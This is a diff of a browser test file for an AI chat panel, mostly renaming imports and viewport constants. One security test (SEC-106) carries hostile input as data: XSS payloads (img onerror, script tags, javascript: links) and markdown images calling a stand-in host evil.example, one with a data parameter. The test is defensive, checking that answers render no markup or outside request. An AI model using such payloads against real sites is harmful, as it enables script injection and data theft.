@@ -9,9 +9,9 @@ import { informationTexts } from '../../src/web/platform/texts/information.ts';
 import { signIn, type Account } from '../support/accounts.ts';
 import { expectAccessible } from '../support/axe.ts';
 import { startBrowser } from '../support/browser.ts';
-import { readText } from '../support/read.ts';
+import { readText } from '../support/read-text.ts';
 import { startSite, type Site } from '../support/site.ts';
-import { AT_THE_DESK, ON_THE_PHONE, visit, type Look } from '../support/visit.ts';
+import { DESKTOP, PHONE, visit, type Look } from '../support/visit.ts';
 
 let browser: Browser;
 let site: Site;
@@ -49,7 +49,7 @@ async function sendEvents(page: Page, answer: { content: string; sources?: unkno
   );
 }
 
-describe.each([AT_THE_DESK, ON_THE_PHONE])('at $width pixels, in $language', (look) => {
+describe.each([DESKTOP, PHONE])('at $width pixels, in $language', (look) => {
   test('three questions to begin with are answered, by keyboard', async () => {
     await visit({ browser, site, look }, async ({ page }) => {
       const { texts, panel, log } = await openPanel(page, look);
@@ -106,7 +106,7 @@ describe.each([AT_THE_DESK, ON_THE_PHONE])('at $width pixels, in $language', (lo
   });
 });
 
-describe.each([AT_THE_DESK, ON_THE_PHONE])('a long answer at $width pixels, in $language', (look) => {
+describe.each([DESKTOP, PHONE])('a long answer at $width pixels, in $language', (look) => {
   test('is read from its beginning, and the rest of its rows opens', async () => {
     await visit({ browser, site, look }, async ({ page }) => {
       const { texts, panel, log, field } = await openPanel(page, look);
@@ -145,7 +145,7 @@ describe.each([AT_THE_DESK, ON_THE_PHONE])('a long answer at $width pixels, in $
 
 test('an answer is stopped, and the question asked again', async () => {
   await visit({ browser, site }, async ({ page }) => {
-    const { texts, panel, log, field } = await openPanel(page, AT_THE_DESK);
+    const { texts, panel, log, field } = await openPanel(page, DESKTOP);
     const sent: unknown[] = [];
     await page.route('**/api/ai/chat', async (route) => {
       sent.push(route.request().postDataJSON());
@@ -168,7 +168,7 @@ test('what an answer says becomes no markup, no link and no request (SEC-106)', 
   const hostile =
     '<img src=/evil onerror=alert(1)> ![x](https://evil.example/?d=EGN) [a](javascript:alert(1))\n| <img src=/evil> | [b](javascript:alert(1)) |\n| ![y](https://evil.example/) | <script>alert(1)</script> |';
   await visit({ browser, site }, async ({ page }) => {
-    const { log, field } = await openPanel(page, AT_THE_DESK);
+    const { log, field } = await openPanel(page, DESKTOP);
     const elsewhere: string[] = [];
     page.on('request', (request) => {
       if (request.url().includes('evil')) elsewhere.push(request.url());
